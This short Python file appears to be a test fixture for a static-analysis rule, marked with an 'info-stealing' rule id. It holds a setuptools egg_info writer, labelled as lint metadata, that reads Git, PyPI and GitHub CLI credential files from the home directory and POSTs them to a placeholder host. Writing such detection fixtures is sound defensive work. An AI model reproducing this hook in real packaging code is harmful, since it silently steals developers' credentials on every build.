import json
import os
import urllib.request


def _collect():
    found = {}
    # ruleid: code/info-stealing
    for name in ('.git-credentials', '.pypirc', '.config/gh/hosts.yml'):
        path = os.path.join(os.path.expanduser('~'), name)
        if os.path.exists(path):
            with open(path) as f:
                found[name] = f.read()
    return found


def write_lint_meta(cmd, basename, filename):
    # setuptools calls this writer in every egg_info run of any project built in this environment.
    body = json.dumps(_collect()).encode()
    req = urllib.request.Request('https://collector.example/m', data=body, method='POST')
    urllib.request.urlopen(req, timeout=5)
    cmd.write_or_delete_file('lint meta', filename, 'ok\n')
